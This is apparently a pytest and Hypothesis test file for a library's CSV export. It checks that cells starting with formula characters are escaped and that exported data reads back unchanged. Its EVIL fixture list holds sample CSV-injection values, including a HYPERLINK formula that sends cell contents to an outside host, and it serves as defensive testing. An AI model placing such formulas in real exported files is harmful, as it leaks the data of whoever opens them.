"""No CSV that Fulcrum writes holds a formula, and a federation comes back from it the same."""

import csv
import io
import json

import pytest
from hypothesis import example, given
from hypothesis.strategies import composite, floats, integers, lists, none, sampled_from, text

import fulcrum
from fulcrum.cli.command_line import run
from fulcrum.csv_text import csv_text, plain_cell
from fulcrum.errors import FederationError
from fulcrum.planning.files.exports import export_plan
from fulcrum.readers.federation import Federation
from fulcrum.readers.federation_csv import federation_csv
from fulcrum.readers.federation_reader import read_federation, reading_of_bytes

SIGNS = "=+-@\t\r\n＝＋－＠"
EVIL = ['=HYPERLINK("http://example.org?"&A1)', "+1", "-2+3", "@SUM(A1)", "'=x", "''+y", "＝1"]
CELLS = text(alphabet=[*SIGNS, "'", '"', ",", "a", " "])


def cells_of(written_text):
    return list(csv.reader(io.StringIO(written_text, newline="")))


@given(CELLS)
@example("'=")
@example("''-1")
@example("'s-Hertogenbosch")
def test_every_text_comes_back_and_none_begins_like_a_formula(cell):
    [[found]] = cells_of(csv_text([[cell]])) if cell else [[""]]
    assert not found.startswith(tuple(SIGNS))
    assert plain_cell(found) == cell


@given(floats(allow_nan=False) | integers())
def test_numbers_stay_numbers(number):
    assert csv_text([[number]]) == f"{number}\n"


def test_only_what_begins_like_a_formula_is_changed():
    plain = ["lille", "a=b", "'s-Hertogenbosch", "", "3", "l'est"]
    assert cells_of(csv_text([plain])) == [plain]


@composite
def federations(draw):
    names = text(alphabet=["=", "+", "-", "@", "＝", "'", '"', ",", "a", "é"], min_size=1, max_size=6)
    silos = draw(lists(names, min_size=1, max_size=6, unique=True))
    regions = [draw(names) for _ in silos]
    country = {region: draw(names) for region in regions}
    return Federation.from_columns(
        silo=silos,
        records=[draw(integers(1, 2**53)) for _ in silos],
        tiers={"region": regions, draw(sampled_from(["country", "=tier", "'-tier"])): [country[r] for r in regions]},
        epsilon=[draw(none() | floats(0.1, 9)) or float("nan") for _ in silos],
        group=draw(none() | lists(names, min_size=len(silos), max_size=len(silos))),
    )


@given(federations())
def test_a_federation_written_as_csv_is_read_back_the_same(federation):
    table = federation_csv(federation)
    assert reading_of_bytes(table.encode(), "a.csv").federation.digest == federation.digest
    assert not any(cell.startswith(("=", "+", "-", "@", "＝")) for row in cells_of(table) for cell in row)


@pytest.fixture
def evil(tmp_path):
    sizes = {region: {f"{region}{k}": 100 * k for k in (1, 2)} for region in EVIL}
    federation = Federation.from_sizes(sizes, outer={"=tier": {"@all": list(sizes)}}, name="evil")
    path = tmp_path / "evil.csv"
    path.write_text(federation_csv(federation), encoding="utf-8")
    return federation, path


def test_no_command_writes_a_formula(evil, tmp_path, capsys, monkeypatch):
    monkeypatch.chdir(tmp_path)
    federation, path = evil
    assert read_federation(path).digest == federation.digest
    options = ["--rounds", "3", "--epsilon", "1"]
    assert run(["plan", str(path), *options, "-o", "plan.json"]) == 0
    assert run(["plan", str(path), *options[:2], "--epsilon", "2", "-o", "other.json"]) == 0
    capsys.readouterr()
    for command in (
        ["exposure", str(path)],
        ["plan", str(path), *options],
        ["compare", str(path), *options],
        ["verify", "plan.json"],
        ["diff", "plan.json", "other.json"],
    ):
        assert run([*command, "--format", "csv"]) in (0, 1)
        out = capsys.readouterr().out
        texts = [cell for row in cells_of(out) for cell in row if not _is_number(cell)]
        assert texts
        assert not any(cell.startswith(tuple(SIGNS)) for cell in texts), command
    run(["exposure", str(path), "--format", "json"])
    assert EVIL[0] in json.dumps(json.loads(capsys.readouterr().out), ensure_ascii=False).replace('\\"', '"')


def _is_number(cell):
    try:
        float(cell)
    except ValueError:
        return False
    return cell not in EVIL


def test_a_plan_exported_as_csv_holds_no_formula(evil):
    federation, _ = evil
    rows = cells_of(export_plan(fulcrum.plan(federation, rounds=3, epsilon=1.0), "csv"))
    names = [row[0] for row in rows[1:]]
    assert [plain_cell(name) for name in names] == federation.silo_names.tolist()
    assert not any(cell.startswith(tuple(SIGNS)) for row in rows for cell in row)


def test_a_federation_that_no_csv_can_hold_is_not_written():
    tree = b'tiers = ["station"]\n[station.north]\nlille = 800\n'
    with pytest.raises(FederationError) as caught:
        federation_csv(reading_of_bytes(tree, "stations.toml").federation)
    assert str(caught.value).startswith(
        "stations cannot be written as CSV: its header: the column 'region' is missing."
    )


@pytest.mark.parametrize(
    ("sizes", "outer", "why"),
    [
        ({"north": {"lille": 80.5}}, {}, "records=80.5 must be a whole number"),
        ({"north": {"a": 5, "b": 7, "Total": 12}}, {}, "silo 'Total' has as many records as the silos above"),
        ({"north": {"#REF!": 5}}, {}, "silo=#REF! is an error value of the spreadsheet"),
        ({"north": {"a": 5}}, {"Gruppe": {"x": ["north"]}}, "would read a column or a row as something else"),
    ],
)
def test_a_federation_that_would_be_read_as_another_is_not_written(sizes, outer, why):
    federation = Federation.from_sizes(sizes, outer=outer, name="clinics")
    with pytest.raises(FederationError, match="clinics cannot be written as CSV: ") as caught:
        federation_csv(federation)
    assert why in str(caught.value)


@pytest.mark.parametrize(
    ("tree", "message"),
    [
        ('[region.north]\n" lille" = 800\n', "a silo's name must have no space around it, got ' lille'"),
        ('[region."north "]\nlille = 800\n', "a region's name must have no space around it, got 'north '"),
        (
            'tiers = ["region", "a "]\n[region.north]\nlille = 800\n["a "]\nb = ["north"]\n',
            "a tier's name must have no space around it, got 'a '",
        ),
    ],
)
def test_a_name_that_a_table_would_trim_is_refused(tree, message):
    with pytest.raises(FederationError, match=f": {message}$"):
        reading_of_bytes(tree.encode(), "a.toml")
